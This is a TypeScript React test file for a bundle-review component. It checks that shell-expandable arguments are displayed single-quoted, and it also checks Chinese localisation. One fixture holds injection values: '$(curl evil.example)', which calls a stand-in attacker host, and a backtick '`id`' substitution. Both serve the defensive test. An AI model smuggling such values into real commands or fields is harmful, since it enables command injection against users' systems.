// @vitest-environment jsdom
import { act, cleanup, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import type { BundleReview } from '../../../shared/contract/bundles';
import { BundleReviewFacts } from './bundle-review-facts';
import { activateLocale } from '../../i18n/i18n';
import { renderWithBerth } from '../../test-support/render-with-berth';

const review = (args: string[]): BundleReview => ({
  name: 'weather',
  command: 'node',
  args,
  env: {},
  secretEnvKeys: [],
  installPath: '/home/ann/.config/berth/bundles/weather/1.0.0',
  resolvedCommand: '/usr/bin/node',
  runtime: { ok: true, message: 'Node.js 20 is installed' },
  warnings: [],
  problems: [],
});

afterEach(cleanup);

describe('BundleReviewFacts', () => {
  it('shows each argument a shell would split or expand in single quotes, as the import and install reviews do', () => {
    renderWithBerth(
      <BundleReviewFacts review={review(['server/index.js', '$(curl evil.example)', 'a b', '`id`', 'C:\\x', ''])} />,
    );
    const line = document.querySelector('.import-command-line')?.textContent;
    expect(line).toBe("node server/index.js '$(curl evil.example)' 'a b' '`id`' 'C:\\x' ''");
    expect(screen.getByText('/usr/bin/node')).toBeTruthy();
  });

  it('words the review in Simplified Chinese, the command, paths and the host’s runtime message as they are', async () => {
    await act(() => activateLocale('zh-CN'));
    const missing = review(['server/index.js']);
    delete missing.resolvedCommand;
    renderWithBerth(<BundleReviewFacts review={missing} />);
    expect(screen.getByLabelText('启动检查')).toBeTruthy();
    expect(screen.getByText('node（未找到）')).toBeTruthy();
    expect(screen.getByText('安装位置')).toBeTruthy();
    expect(screen.getByText('Node.js 20 is installed')).toBeTruthy();
  });
});
